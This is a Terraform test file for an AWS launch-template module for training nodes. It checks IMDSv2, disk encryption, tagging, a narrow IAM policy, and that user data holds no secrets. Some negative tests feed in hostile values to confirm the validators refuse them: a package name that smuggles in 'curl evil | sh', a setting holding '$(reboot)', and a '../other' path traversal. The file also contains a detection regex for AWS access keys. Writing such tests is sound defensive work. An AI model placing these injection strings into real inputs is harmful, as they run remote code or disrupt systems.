mock_provider "aws" {
  source = "../../mocks"
}

variables {
  name              = "gpt-one"
  role              = "train"
  project           = "gpt"
  run_id            = "one"
  policy            = "{\"Version\": \"2012-10-17\", \"Statement\": []}"
  bucket            = "runs"
  security_group_id = "sg-nodes"
  placement_group   = "cluster"
  instance_type     = "g6.2xlarge"
  holdfast_package  = "holdfast[trainer,openmpi] @ https://wheels.example/YOU/holdfast-0.2.0-py3-none-any.whl"
}

run "metadata_takes_session_tokens_only" {
  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_tokens == "required"
    error_message = "IMDSv2 must be required: without it a forged request gets the role's credentials."
  }

  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_put_response_hop_limit == 1
    error_message = "The answer of the metadata service must not leave the machine unless asked for."
  }

  assert {
    condition     = aws_launch_template.this.metadata_options[0].instance_metadata_tags == "enabled"
    error_message = "The user data reads the run's id from the instance's tags."
  }
}

run "disks_are_encrypted_and_go_with_the_node" {
  assert {
    condition     = alltrue([for disk in aws_launch_template.this.block_device_mappings : disk.ebs[0].encrypted == "true" && disk.ebs[0].delete_on_termination == "true"])
    error_message = "Every disk must be encrypted, and go with its node."
  }

  assert {
    condition     = length(aws_launch_template.this.block_device_mappings) == 1
    error_message = "The root disk must be named, or the image decides about encryption."
  }

  assert {
    condition     = aws_launch_template.this.instance_initiated_shutdown_behavior == "terminate"
    error_message = "A stopped node goes on costing, and a spot node in a placement group cannot be stopped."
  }
}

run "everything_raised_carries_the_runs_tags" {
  assert {
    condition     = toset(aws_launch_template.this.tag_specifications[*].resource_type) == toset(["instance", "volume", "network-interface"])
    error_message = "What is not tagged is not found by `cluster down`; spot-instances-request would refuse instances on demand."
  }

  assert {
    condition = alltrue([
      for specification in aws_launch_template.this.tag_specifications :
      specification.tags.Project == "gpt" && specification.tags.RunId == "one" && specification.tags.Role == "train"
    ])
    error_message = "Project, RunId and Role are what IAM and the launcher go by."
  }
}

run "the_fleet_says_spot_not_the_template" {
  assert {
    condition     = length(aws_launch_template.this.instance_market_options) == 0
    error_message = "EC2 Fleet refuses a template that asks for spot, and the fallback on demand needs the same template."
  }
}

run "spot_in_the_template_ends_and_is_not_repeated" {
  variables {
    spot_in_template = true
  }

  assert {
    condition = (
      aws_launch_template.this.instance_market_options[0].market_type == "spot"
      && aws_launch_template.this.instance_market_options[0].spot_options[0].spot_instance_type == "one-time"
      && aws_launch_template.this.instance_market_options[0].spot_options[0].instance_interruption_behavior == "terminate"
    )
    error_message = "A spot node that is stopped or asked for again cannot be in a placement group."
  }
}

run "the_session_policy_opens_no_parameters" {
  assert {
    condition     = alltrue([for action in jsondecode(aws_iam_role_policy.session.policy).Statement[0].Action : startswith(action, "ssmmessages:") || action == "ssm:UpdateInstanceInformation"])
    error_message = "Session Manager needs channels and a heartbeat, no more."
  }
}

run "user_data_fits_and_holds_no_secret" {
  assert {
    condition     = startswith(output.user_data, "#cloud-config\n") && length(output.user_data) <= 16384
    error_message = "cloud-init knows its own by the first line; EC2 takes 16384 bytes."
  }

  assert {
    condition     = !strcontains(output.user_data, "PRIVATE KEY") && !can(regex("AKIA[0-9A-Z]{16}", output.user_data))
    error_message = "Whoever may describe instances reads the user data."
  }
}

run "a_hop_limit_of_three_is_refused" {
  command = plan

  variables {
    imds_hop_limit = 3
  }

  expect_failures = [var.imds_hop_limit]
}

run "a_package_that_would_run_a_command_is_refused" {
  command = plan

  variables {
    holdfast_package = "holdfast\"; curl evil | sh; \""
  }

  expect_failures = [var.holdfast_package]
}

run "a_package_that_a_stranger_may_have_registered_is_refused" {
  command = plan

  variables {
    holdfast_package = "a-package-of-an-index>=0.2"
  }

  expect_failures = [var.holdfast_package]
}

run "a_setting_that_would_run_a_command_is_refused" {
  command = plan

  variables {
    settings = { ring_bytes = "$(reboot)" }
  }

  expect_failures = [var.settings]
}

run "the_store_is_not_a_setting" {
  command = plan

  variables {
    settings = { store = "s3://other/run" }
  }

  expect_failures = [var.settings]
}

run "a_run_id_that_leaves_its_prefix_is_refused" {
  command = plan

  variables {
    run_id = "../other"
  }

  expect_failures = [var.run_id]
}
